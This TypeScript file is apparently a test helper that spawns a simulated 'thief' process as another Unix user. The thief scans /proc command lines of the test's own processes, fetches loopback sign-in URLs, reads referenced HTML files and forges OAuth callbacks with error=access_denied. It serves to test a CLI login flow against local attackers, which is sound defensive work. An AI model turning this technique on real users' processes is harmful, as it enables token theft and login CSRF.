/**
 * The attacker of issue 20, items 1 and 2: a process of another Unix user that polls every process's
 * /proc/PID/cmdline (readable by every user) and tries to use whatever keyless hands a browser there: it fetches
 * every loopback URL it sees (a console sign-in link answers with a 302 to the federation login), reads every file
 * a path or file:// URL names (and follows any loopback link inside), and answers every login callback whose state
 * it learnt with error=access_denied (the least a login CSRF can do). It records what it got, as booleans and
 * status codes: never the secret itself. It watches only the processes the calling test starts (the descendants of
 * the test worker), so that test files running at the same time neither show up in its report nor get attacked.
 */
import {spawn} from 'node:child_process'
import {readFileSync} from 'node:fs'
import {join} from 'node:path'

import type {OtherUser} from './other-user.js'

export interface ThiefReport {
  polls: number
  /** Command lines of other users' processes it saw that were born after it started (non-vacuity). */
  cmdlines: string[]
  /** Every loopback URL it saw on a command line, and what fetching it gave. */
  loopback: Array<{status: number | string; signinToken: boolean; state: boolean}>
  /** Every authorize/verification URL with a state, challenge or user code it saw on a command line. */
  loginUrls: number
  /** Every callback it answered with our state and error=access_denied: the status it got. */
  cancels: Array<number | string>
  /** Every file it tried to read: whether it could, and what it learnt. */
  files: Array<{path: string; read: boolean; error?: string}>
}

const SCRIPT = String.raw`
const fs = require('node:fs')
const out = process.argv[1]
const root = process.argv[2]
const old = new Set(fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)))
const seen = new Set(), tried = new Set()
const report = {polls: 0, cmdlines: [], loopback: [], loginUrls: 0, cancels: [], files: []}
let stopping = false
const read = (f) => { try { return fs.readFileSync(f).toString('latin1') } catch { return undefined } }
async function grab(url) {
  try {
    const r = await fetch(url, {redirect: 'manual'})
    const to = r.headers.get('location') || ''
    report.loopback.push({status: r.status, signinToken: /SigninToken(=|%3D)/i.test(to + url), state: /[?&]state=/.test(to)})
    if (/[?&]state=/.test(to)) await cancel(to)
  } catch (e) {
    report.loopback.push({status: String(e.cause && e.cause.code || e), signinToken: false, state: false})
  }
}
async function cancel(url) {
  report.loginUrls++
  try {
    const u = new URL(url)
    const state = u.searchParams.get('state'), back = u.searchParams.get('redirect_uri')
    if (!state || !back) return
    const r = await fetch(back + '?error=access_denied&state=' + encodeURIComponent(state))
    report.cancels.push(r.status)
  } catch (e) { report.cancels.push(String(e)) }
}
function steal(text) {
  for (const m of text.match(/https?:\/\/[^\s\0"']+/g) || []) {
    if (tried.has(m)) continue
    tried.add(m)
    if (/^http:\/\/(127\.0\.0\.1|\[::1\]|localhost):\d+\/./.test(m) && !/\/authorize\?/.test(m)) grab(m)
    else if (/[?&](state|code_challenge|user_code)=/.test(m)) cancel(m)
  }
  for (const m of text.match(/(file:\/\/)?\/[^\0\s"']+\.html?/g) || []) {
    const path = m.startsWith('file://') ? decodeURIComponent(m.slice(7)) : m
    if (tried.has(path)) continue
    tried.add(path)
    try {
      const body = fs.readFileSync(path, 'utf8')
      report.files.push({path, read: true})
      steal(body)
    } catch (e) { report.files.push({path, read: false, error: e.code}) }
  }
}
// Only the test's own processes (descendants of the test worker): the thief must neither count nor attack what
// other test files, running at the same time, start. Ancestry is read from /proc/PID/stat (readable by anyone).
const parentOf = new Map()
function ppid(pid) {
  if (parentOf.has(pid)) return parentOf.get(pid)
  const stat = read('/proc/' + pid + '/stat')
  const parent = stat ? stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1] : undefined
  parentOf.set(pid, parent)
  return parent
}
function mine(pid) {
  for (let p = pid, depth = 0; p && p !== '0' && depth < 64; p = ppid(p), depth++) if (p === root) return true
  return false
}
function poll() {
  report.polls++
  for (const pid of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(pid) || old.has(pid) || pid === String(process.pid) || !mine(pid)) continue
    const cmd = read('/proc/' + pid + '/cmdline')
    if (!cmd || seen.has(cmd)) continue
    seen.add(cmd)
    report.cmdlines.push(cmd.replace(/\0/g, ' '))
    steal(cmd.replace(/\0/g, ' '))
  }
  if (stopping) return setTimeout(() => { fs.writeFileSync(out, JSON.stringify(report)); process.exit(0) }, 300)
  setTimeout(poll, 1)
}
process.on('SIGTERM', () => (stopping = true))
process.stdout.write('ready\n')
poll()
`

/** Starts the thief as `user`; resolves once it polls. stop() ends it and returns what it got. */
export async function startCmdlineThief(user: OtherUser): Promise<{stop: () => Promise<ThiefReport>}> {
  const out = join(user.home, `thief-${Date.now()}.json`)
  const child = spawn(
    'setpriv',
    [`--reuid=${user.uid}`, `--regid=${user.gid}`, '--clear-groups', user.node, '-e', SCRIPT, out, String(process.pid)],
    {
      stdio: ['ignore', 'pipe', 'inherit'],
      env: {PATH: process.env.PATH, HOME: user.home},
    },
  )
  await new Promise((resolve) => child.stdout.once('data', resolve))
  return {
    stop: () =>
      new Promise((resolve) => {
        child.once('exit', () => resolve(JSON.parse(readFileSync(out, 'utf8')) as ThiefReport))
        child.kill('SIGTERM')
      }),
  }
}
